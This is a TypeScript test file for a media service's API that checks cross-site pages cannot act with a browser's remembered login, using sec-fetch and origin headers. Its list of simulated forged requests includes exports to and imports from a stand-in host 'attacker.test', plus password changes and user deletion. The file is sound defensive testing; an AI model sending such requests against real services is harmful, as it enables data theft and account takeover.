import { expect, it } from 'vitest';
import { alice, newUser } from '../support/cast.ts';
import { openWorld, type World } from '../support/matrix.ts';
import { prepare } from '../support/scenario.ts';
import { admin } from '../support/service.ts';
import { type Browser, browserAt, newToken } from '../support/ways.ts';

type Headers = Readonly<Record<string, string>>;
const own = 'https://portico.test';
const evil = 'https://evil.test';
const listed = 'https://page.test';
const form = { 'content-type': 'application/x-www-form-urlencoded' };

interface Opened {
  readonly world: World;
  readonly browser: Browser;
}

async function open(): Promise<Opened> {
  const world = await openWorld('fetch', { settings: { corsOrigins: [listed] } });
  await prepare(world, [newUser(alice, ['_administrator'])]);
  return { world, browser: browserAt(world) };
}

/** Headers that a browser sends for pages of other sites. */
const others: readonly (readonly [string, Headers])[] = [
  ['a form', { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', origin: evil }],
  ['a link or a form without an origin', { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate' }],
  ['a picture', { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors' }],
  ['a script', { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors', origin: evil }],
  ['a script that tells no origin', { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors' }],
  ['a form of a neighbouring site', { 'sec-fetch-site': 'same-site', origin: 'https://media.portico.test' }],
  ['a site of a kind that is not known', { 'sec-fetch-site': 'cross-planet' }],
  ['a form of an old browser', { origin: evil }],
  ['a form of an old browser in a sandbox', { origin: 'null' }],
  ['a form of the same name without TLS', { origin: 'http://portico.test' }],
  ['a form of another port', { origin: 'https://portico.test:444' }],
];

/** Requests that such a page makes a browser send, with the login that its user typed into the browser window. */
const wanted = [
  'POST /API/item/VX-1/export?uri=http://attacker.test/',
  'POST /API/user/alice/key',
  'POST /API/collection?name=planted',
  'POST /API/import?uri=http://attacker.test/virus.mov',
  'POST /API/session',
  'GET /API/token?seconds=600',
  'GET /API/user/alice/token',
  'GET /API/thumbnail/VX-1/VX-1/10/export?uri=http://attacker.test/',
  'GET /API/whoami',
  'HEAD /API/whoami',
  'PUT /API/user/alice/password',
  'DELETE /API/user/alice',
];

/** Number of users, keys, tokens and collections. */
const rows = ['user', 'access_key', 'token', 'collection'].map((table) => `(SELECT count(*) FROM ${table})`);
const countsIn = async ({ service }: World): Promise<string> =>
  String(await service.store.read(`SELECT ${rows.join(', ')}`));

it.each(others)('a page of another site acts with the login that the browser remembers: %s', async (_, headers) => {
  const { world, browser } = await open();
  const before = await countsIn(world);
  for (const request of wanted) {
    const isForm = request.startsWith('POST');
    const answer = await browser({
      ...{ request, as: alice, headers: { ...(isForm && form), ...headers } },
      ...(isForm && { body: 'a=b' }),
    });
    expect([answer.status, answer.headers.get('www-authenticate')], request).toEqual([401, 'Session']);
    expect(await answer.text()).toBe('');
    expect(world.lines.at(-1)).toMatchObject({ status: 401, reason: 'credentials-elsewhere' });
  }
  expect(await countsIn(world)).toBe(before);
});

it.each(others)('a page of another site opens the login window of the browser: %s', async (_, headers) => {
  const { browser } = await open();
  const answer = await browser({ request: 'GET /API/item', headers });
  expect([answer.status, answer.headers.get('www-authenticate')]).toEqual([401, 'Session']);
});

it('guesses a password through the browsers of others: none is compared', async () => {
  const { browser } = await open();
  const headers = { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate' };
  for (let guess = 0; guess < 50; guess++)
    expect((await browser({ request: 'GET /API/whoami', as: ['alice', `guess ${guess}`], headers })).status).toBe(401);
  expect((await browser({ request: 'GET /API/whoami', as: alice, headers: {} })).status).toBe(200);
});

it.each<[string, Headers]>([
  ['a program', {}],
  ['a program that mimics half a browser', { 'sec-fetch-mode': 'cors', referer: evil }],
  ['an address that is typed', { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate' }],
  ['a page of the service', { 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors', origin: own }],
  ['a page of the service in an old browser', { origin: own }],
  [
    'a page of an origin that CORS allows',
    { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors', origin: listed },
  ],
  ['such a page in an old browser', { origin: listed }],
])('a user name and a password count as before: %s', async (_, headers) => {
  const { browser } = await open();
  const answer = await browser({ request: 'POST /API/collection?name=mine', as: alice, headers });
  expect(answer.status).toBe(200);
  const unknown = await browser({ request: 'GET /API/whoami', headers });
  const isOfPage = headers['sec-fetch-site'] !== undefined && headers['sec-fetch-mode'] === 'cors';
  expect(unknown.headers.get('www-authenticate')).toBe(isOfPage ? 'Session' : 'BASIC realm="serviceRealm"');
});

it('a token counts wherever it is sent from: no browser remembers it', async () => {
  const { world, browser } = await open();
  const authorization = `token ${await newToken(world, { as: alice })}`;
  for (const [name, headers] of others)
    expect((await browser({ request: 'GET /API/whoami', headers: { authorization, ...headers } })).status, name).toBe(
      200,
    );
});

it('a link of another site to what is open to anybody works, also in a browser that is logged in', async () => {
  const { browser } = await open();
  for (const as of [alice, undefined]) {
    const headers = { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate' };
    expect((await browser({ request: 'GET /API/APInoauth/version', as, headers })).status).not.toBe(401);
  }
});

it('an origin that an entry of CORS allows on one path counts there alone', async () => {
  const { world, browser } = await open();
  const entry = { request: [{ origin: [evil], pathRegex: ['/API/whoami'] }], response: { allowOrigin: evil } };
  const put = { request: 'PUT /API/configuration/cors', as: admin, body: { entry: [entry] } };
  await prepare(world, [put]);
  const headers = { 'sec-fetch-site': 'cross-site', origin: evil };
  const statusOf = async (request: string) => (await browser({ request, as: alice, headers })).status;
  expect(await statusOf('GET /API/whoami')).toBe(200);
  expect(await statusOf('GET /API/user')).toBe(401);
});
